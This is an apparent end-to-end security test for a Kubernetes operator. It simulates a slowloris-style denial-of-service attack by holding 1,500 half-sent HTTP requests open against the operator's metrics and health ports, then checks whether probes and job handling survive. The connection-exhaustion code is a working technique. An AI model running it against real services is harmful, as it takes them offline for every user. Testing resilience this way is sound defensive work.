"""Connections to the operator's own ports, which anybody on the pod network reaches."""

from __future__ import annotations

import asyncio
import contextlib
import resource
import socket

import aiohttp

from e2e.attacks.lib.judge import Judge, gains
from e2e.attacks.lib.victim import HEALTH, METRICS, Site

DESCRIPTORS = 1024
"""Soft limit of a container under systemd's defaults."""
CONNECTIONS = 1500
ANSWER_S = 30.0
"""Within it a kubelet's third probe has failed."""
HALF = b"GET /metrics HTTP/1.1\r\nHost: operator\r\nX-Idle: "


def _half_requests(place: str, count: int) -> list[socket.socket]:
    """Connections that have sent half a header, until there are so many or the server takes no more."""
    host, _, port = place.partition(":")
    held = []
    for _ in range(count):
        connection = socket.socket()
        held.append(connection)
        connection.settimeout(2)
        try:
            connection.connect((host, int(port)))
        except TimeoutError:
            break
        with contextlib.suppress(OSError):
            connection.sendall(HALF)
    return held


async def _answers(place: str) -> bool:
    """Whether a probe is answered in time."""
    try:
        async with asyncio.timeout(ANSWER_S), aiohttp.ClientSession() as session, session.get(f"http://{place}/healthz") as answer:
            return answer.status == 200
    except (TimeoutError, aiohttp.ClientError):
        return False


@gains("stops the operator for all tenants")
async def attack_with_idle_connections(site: Site, judge: Judge) -> None:
    """A stranger opens 1,500 connections to each of the operator's ports and never ends a request."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 3 * CONNECTIONS), most))
    async with site.operator():
        process = site.process.process.pid
        resource.prlimit(process, resource.RLIMIT_NOFILE, (DESCRIPTORS, most))
        assert await _answers(HEALTH), "it answers before"
        held: list[socket.socket] = []
        try:
            for place in (METRICS, HEALTH):
                held += await asyncio.to_thread(_half_requests, place, CONNECTIONS)
            await site.create_job()
            receiver = None
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(ANSWER_S):
                    receiver = await site.appears("receiver")
            probed = await _answers(HEALTH)
        finally:
            for connection in held:
                connection.close()
        judge(probed and receiver is not None, f"probe answered: {probed}; a job's receiver made: {receiver is not None}")
        await site.appears("receiver")
